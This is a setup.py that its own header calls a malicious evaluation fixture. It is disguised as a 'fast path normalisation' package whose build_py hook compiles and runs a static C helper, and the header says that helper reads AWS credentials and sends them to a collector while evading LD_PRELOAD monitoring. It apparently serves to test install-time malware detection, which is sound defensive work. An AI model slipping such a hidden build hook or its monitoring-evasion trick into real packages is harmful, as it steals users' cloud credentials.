# Evaluation fixture (malicious): a statically linked helper.  The package
# ships C source "for speed"; its build_py compiles it with gcc -static
# and runs it.  A static binary loads no LD_PRELOAD library, so only the
# kernel sees what it does: it reads the AWS credentials and sends them to a
# hard-coded collector.  Acts only inside the evaluation (the helper needs
# SP_TOKEN and connects to 127.0.0.1 at SP_SINK_PORT).
import os
import subprocess

from setuptools import setup
from setuptools.command.build_py import build_py


class BuildPy(build_py):
    def run(self):
        super().run()
        if os.environ.get("SP_TOKEN"):
            out = os.path.join(self.build_lib, "..", "pathnorm-helper")
            subprocess.run(["gcc", "-static", "-O1", "-o", out, "src/helper.c"], check=False)
            if os.path.exists(out):
                subprocess.run([out], check=False, timeout=30)


setup(
    name="static-helper",
    version="0.8.0",
    description="Fast path normalisation (C helper)",
    py_modules=["pathnorm"],
    cmdclass={"build_py": BuildPy},
)
